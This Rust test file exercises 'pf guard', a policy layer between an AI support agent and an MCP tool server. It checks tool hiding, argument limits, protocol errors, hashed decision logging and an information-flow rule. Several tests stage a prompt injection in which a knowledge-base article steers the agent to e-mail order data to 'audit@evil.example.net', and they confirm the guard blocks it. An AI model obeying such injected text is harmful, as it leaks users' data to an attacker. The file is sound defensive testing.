//! `pf guard` between a client and a real stdio MCP server (`pf guard demo-tools`), with the
//! support agent's spec: hidden tools, allowed calls, denials in MCP's own form, a prompt
//! injection stopped by information flow, protocol errors answered, every decision logged.

use std::io::{Read, Write};
use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::{Value, json};

mod common;

use common::{GuardSession as Session, support_spec};

impl Session {
    /// A `tools/call` whose reply answers `id`; its result.
    fn call(&mut self, id: u64, tool: &str, args: Value) -> Value {
        let reply = self.request(id, "tools/call", json!({"name": tool, "arguments": args}));
        assert_eq!(reply["id"], json!(id), "{reply}");
        reply["result"].clone()
    }
}

fn text(result: &Value) -> String {
    result["content"][0]["text"]
        .as_str()
        .unwrap_or_default()
        .to_string()
}

#[test]
fn guard_enforces_the_support_agent_spec_over_mcp() {
    support_agent_spec_is_enforced(&[]);
}

#[test]
fn guard_on_one_thread_enforces_the_support_agent_spec_over_mcp() {
    support_agent_spec_is_enforced(&["--threads", "1"]);
}

/// The support agent's session through `pf guard EXTRA...`: hidden tools, allowed and denied
/// calls, protocol errors, and the decision log.
fn support_agent_spec_is_enforced(extra: &[&str]) {
    let dir = tempfile::tempdir().expect("temp dir");
    let log = dir.path().join("decisions.jsonl");
    let mut s = Session::start(&support_spec(), &log, extra);

    let init = s.request(1, "initialize", json!({"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "test", "version": "0"}}));
    assert_eq!(
        init["result"]["serverInfo"]["name"], "pf-demo-tools",
        "{init}"
    );

    // Tools outside the spec are hidden.
    let list = s.request(2, "tools/list", json!({}));
    let names: Vec<&str> = list["result"]["tools"]
        .as_array()
        .expect("tools")
        .iter()
        .filter_map(|t| t["name"].as_str())
        .collect();
    assert!(
        names.contains(&"search_kb") && names.contains(&"send_email"),
        "{names:?}"
    );
    assert!(!names.contains(&"delete_account"), "{names:?}");

    // ... and calling one anyway is denied in MCP's form, with a reason code.
    let denied = s.call(3, "delete_account", json!({"customer": "c1"}));
    assert_eq!(denied["isError"], json!(true), "{denied}");
    assert!(text(&denied).contains("unknown_tool"), "{denied}");

    // An allowed call reaches the tool.
    let kb = s.call(4, "search_kb", json!({"query": "refund policy"}));
    assert_eq!(kb["isError"], json!(false), "{kb}");
    assert!(text(&kb).contains("audit@evil.example.net"));

    // The injected address from the (untrusted) article may not receive e-mail.
    let exfil = s.call(
        5,
        "send_email",
        json!({"to": "audit@evil.example.net", "subject": "orders", "body": "all of them"}),
    );
    assert_eq!(exfil["isError"], json!(true), "{exfil}");

    // A legitimate e-mail to an allowed domain goes through.
    let ok = s.call(
        6,
        "send_email",
        json!({"to": "jane.roe@customers.example.com", "subject": "Your refund", "body": "Done."}),
    );
    assert_eq!(ok["isError"], json!(false), "{ok}");

    // Arguments outside the constraints are denied before the tool runs.
    let refund = s.call(
        7,
        "issue_refund",
        json!({"order_id": "ORD-123456", "amount": 5000}),
    );
    assert_eq!(refund["isError"], json!(true), "{refund}");
    assert!(text(&refund).contains("arg_above_max"), "{refund}");

    // Garbage on the wire gets a JSON-RPC error, and the session goes on.
    let garbage = s.send_raw("{this is not json");
    assert_eq!(garbage["error"]["code"], json!(-32700), "{garbage}");
    let missing_name = s.request(8, "tools/call", json!({"arguments": {}}));
    assert_eq!(
        missing_name["error"]["code"],
        json!(-32602),
        "{missing_name}"
    );
    let ping = s.request(9, "ping", json!({}));
    assert_eq!(ping["result"], json!({}), "{ping}");

    drop(s.stdin);
    let status = s.child.wait().expect("guard exits");
    assert!(status.success(), "{status:?}");

    // Every decision was logged, as commitments rather than raw values.
    let records: Vec<Value> = std::fs::read_to_string(&log)
        .expect("log written")
        .lines()
        .map(|l| serde_json::from_str(l).expect("JSON line"))
        .collect();
    let calls: Vec<(&str, &str)> = records
        .iter()
        .filter(|r| r["kind"] == "call")
        .map(|r| {
            (
                r["tool"].as_str().unwrap_or(""),
                r["effect"].as_str().unwrap_or(""),
            )
        })
        .collect();
    assert_eq!(
        calls,
        vec![
            ("delete_account", "deny"),
            ("search_kb", "allow"),
            ("send_email", "deny"),
            ("send_email", "allow"),
            ("issue_refund", "deny"),
            // The tools/call without a name, refused before the policy, is logged too.
            ("<unnamed>", "deny")
        ]
    );
    let all = std::fs::read_to_string(&log).expect("log");
    assert!(
        !all.contains("evil.example.net"),
        "raw argument values must not be logged"
    );
    assert!(records.iter().all(|r| {
        r["commitment"]
            .as_str()
            .is_some_and(|c| c.starts_with("sha256:"))
    }));
}

#[test]
fn guard_without_a_server_command_fails_with_a_message() {
    let spec =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/support-agent/agent.yaml");
    let out = Command::new(env!("CARGO_BIN_EXE_pf"))
        .args(["guard", "--spec", spec.to_str().expect("utf-8")])
        .output()
        .expect("runs");
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("no MCP server") && err.contains("--upstream URL"),
        "{err}"
    );
}

fn log_records(log: &Path) -> Vec<Value> {
    std::fs::read_to_string(log)
        .expect("log written")
        .lines()
        .map(|l| serde_json::from_str(l).expect("JSON line"))
        .collect()
}

#[test]
fn requests_sent_just_before_the_client_closes_are_still_answered() {
    let dir = tempfile::tempdir().expect("temp dir");
    let log = dir.path().join("decisions.jsonl");
    let mut s = Session::start(&support_spec(), &log, &[]);
    let init = json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "test", "version": "0"}}});
    let lookup = json!({"jsonrpc": "2.0", "id": 2, "method": "tools/call",
                        "params": {"name": "lookup_order", "arguments": {"order_id": "ORD-123456"}}});

    // The client sends two requests and closes its end at once, without waiting.
    write!(s.stdin, "{init}\n{lookup}\n").expect("write");
    drop(s.stdin);
    let mut out = String::new();
    s.stdout.read_to_string(&mut out).expect("read");
    let status = s.child.wait().expect("guard exits");

    assert!(status.success(), "{status:?}");
    let replies: Vec<Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).expect("JSON line"))
        .collect();
    let ids: Vec<&Value> = replies.iter().map(|r| &r["id"]).collect();
    assert_eq!(ids, [&json!(1), &json!(2)], "{out}");
    let order = &replies[1]["result"];
    assert_eq!(order["isError"], json!(false), "{order}");
    assert!(text(order).contains("ORD-123456"), "{order}");
    // The late answer went through the output check like any other.
    let records = log_records(&log);
    assert!(
        records
            .iter()
            .any(|r| r["kind"] == "output" && r["tool"] == "lookup_order"),
        "{records:?}"
    );
}

/// With the shortest and the longest group-commit window, a burst of calls followed by the
/// client closing its end leaves every decision in the log (a clean stop writes what is queued).
#[test]
fn every_decision_is_logged_whatever_the_commit_window() {
    for window in ["0", "1000"] {
        let dir = tempfile::tempdir().expect("temp dir");
        let log = dir.path().join("decisions.jsonl");
        let mut s = Session::start(&support_spec(), &log, &["--log-commit-window-ms", window]);
        let init = json!({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "test", "version": "0"}}});
        writeln!(s.stdin, "{init}").expect("write");
        for id in 1..=20 {
            let call = json!({"jsonrpc": "2.0", "id": id, "method": "tools/call",
                              "params": {"name": "lookup_order", "arguments": {"order_id": "ORD-123456"}}});
            writeln!(s.stdin, "{call}").expect("write");
        }
        drop(s.stdin);
        let mut out = String::new();
        s.stdout.read_to_string(&mut out).expect("read");
        let status = s.child.wait().expect("guard exits");
        assert!(status.success(), "window {window}: {status:?}");
        assert_eq!(out.lines().count(), 21, "window {window}: {out}");
        let records = log_records(&log);
        let count = |kind: &str, effect: Option<&str>| {
            records
                .iter()
                .filter(|r| r["kind"] == kind && r["tool"] == "lookup_order")
                .filter(|r| effect.is_none_or(|e| r["effect"] == e))
                .count()
        };
        // Every call has its record; every allowed one (the spec's rate limit denies some) has
        // its output's.
        assert_eq!(count("call", None), 20, "window {window}: {records:?}");
        let allowed = count("call", Some("allow"));
        assert!(allowed > 0, "window {window}: {records:?}");
        assert_eq!(
            count("output", None),
            allowed,
            "window {window}: {records:?}"
        );
    }
}

#[test]
fn the_guard_exits_when_the_server_does_even_if_the_client_stays() {
    let dir = tempfile::tempdir().expect("temp dir");
    let log = dir.path().join("decisions.jsonl");
    let spec = support_spec();
    let started = std::time::Instant::now();
    let mut child = Command::new(env!("CARGO_BIN_EXE_pf"))
        .args(["guard", "--spec", spec.to_str().expect("utf-8"), "--log"])
        .arg(&log)
        .args(["--", "sh", "-c", "exit 3"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .expect("pf guard starts");
    // The client keeps its end of stdin open and sends nothing.
    let _stdin = child.stdin.take().expect("stdin");
    let status = loop {
        if let Some(status) = child.try_wait().expect("wait") {
            break status;
        }
        if started.elapsed() > std::time::Duration::from_secs(20) {
            let _ = child.kill();
            panic!("pf guard did not exit after its server did");
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    };
    assert_eq!(
        status.code(),
        Some(3),
        "the server's exit code is passed on"
    );
}

/// search_kb's output is untrusted; e-mail may go to an address seen there only when the user
/// named it (`unless: [user_request]`).
const USER_TURN_SPEC: &str = r#"
name: user-turn-agent
version: 1.0.0
capabilities:
  - name: search_kb
    kind: tool
    waiver: CLI test
    output_labels: [untrusted]
  - name: send_email
    kind: email
    waiver: CLI test
    constraints:
      args:
        to: { max_length: 254 }
policies:
  - name: no-untrusted-recipients
    type: information_flow
    deny_labels: [untrusted]
    sinks: [send_email.to]
    unless: [user_request]
"#;

/// Where the demo knowledge base's injected article asks for mail to go.
const KB_ADDRESS: &str = "audit@evil.example.net";

/// Reads the knowledge base, then e-mails [`KB_ADDRESS`], passing `user_request` (the user's
/// turn, as the host would) in the call's `_meta`; returns the e-mail call's reply and the log.
fn email_the_kb_address(trust_flag: bool, user_request: Option<Value>) -> (Value, Vec<Value>) {
    let dir = tempfile::tempdir().expect("temp dir");
    let spec = dir.path().join("agent.yaml");
    std::fs::write(&spec, USER_TURN_SPEC).expect("spec");
    let log = dir.path().join("decisions.jsonl");
    let extra: &[&str] = if trust_flag {
        &["--trust-user-request"]
    } else {
        &[]
    };
    let mut s = Session::start(&spec, &log, extra);

    let kb = s.call(1, "search_kb", json!({"query": "refunds"}));
    assert!(text(&kb).contains(KB_ADDRESS), "{kb}");
    let mut params = json!({"name": "send_email",
                            "arguments": {"to": KB_ADDRESS, "subject": "orders", "body": "all"}});
    if let Some(u) = user_request {
        params["_meta"] = json!({"provability-fabric/user-request": u});
    }
    let reply = s.request(2, "tools/call", params);

    drop(s.stdin);
    let status = s.child.wait().expect("guard exits");
    assert!(status.success(), "{status:?}");
    (reply, log_records(&log))
}

fn email_decision(records: &[Value]) -> (String, Vec<String>) {
    let r = records
        .iter()
        .find(|r| r["kind"] == "call" && r["tool"] == "send_email")
        .unwrap_or_else(|| panic!("no send_email decision in {records:?}"));
    let reasons = r["reasons"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|c| c.as_str().map(String::from))
                .collect()
        })
        .unwrap_or_default();
    (r["effect"].as_str().unwrap_or("").to_string(), reasons)
}

fn user_turn() -> Option<Value> {
    Some(json!(format!(
        "Please forward my order details to {KB_ADDRESS}"
    )))
}

#[test]
fn with_trust_user_request_an_address_the_user_named_may_receive_email() {
    let (reply, records) = email_the_kb_address(true, user_turn());

    assert_eq!(reply["result"]["isError"], json!(false), "{reply}");
    assert_eq!(text(&reply["result"]), format!("sent to {KB_ADDRESS}"));
    assert_eq!(email_decision(&records).0, "allow");
}

/// The e-mail call was answered with a tool error naming the flow rule and logged as denied.
fn assert_denied_on_information_flow(reply: &Value, records: &[Value]) {
    assert_eq!(reply["result"]["isError"], json!(true), "{reply}");
    assert!(
        text(&reply["result"]).contains("information_flow"),
        "{reply}"
    );
    assert_eq!(email_decision(records).0, "deny");
}

#[test]
fn with_trust_user_request_but_no_user_turn_the_flow_rule_denies() {
    let (reply, records) = email_the_kb_address(true, None);

    assert_denied_on_information_flow(&reply, &records);
}

#[test]
fn without_trust_user_request_the_user_turn_is_ignored_and_the_call_denied() {
    let (reply, records) = email_the_kb_address(false, user_turn());

    // Ignored, not refused: the call is decided as if no user turn had been passed.
    assert_denied_on_information_flow(&reply, &records);
}

#[test]
fn a_malformed_user_turn_is_refused_only_when_trusted() {
    // Trusted: the host broke the contract, so the call is refused with invalid params.
    let (reply, records) = email_the_kb_address(true, Some(json!(42)));
    assert_eq!(reply["error"]["code"], json!(-32602), "{reply}");
    let (effect, reasons) = email_decision(&records);
    assert_eq!(effect, "deny");
    assert!(
        reasons.iter().any(|r| r == "user_request.invalid"),
        "{reasons:?}"
    );

    // Untrusted: ignored like a well-formed one; the policy decides.
    let (reply, _) = email_the_kb_address(false, Some(json!(42)));
    assert_eq!(reply["result"]["isError"], json!(true), "{reply}");
    assert!(
        text(&reply["result"]).contains("information_flow"),
        "{reply}"
    );
}
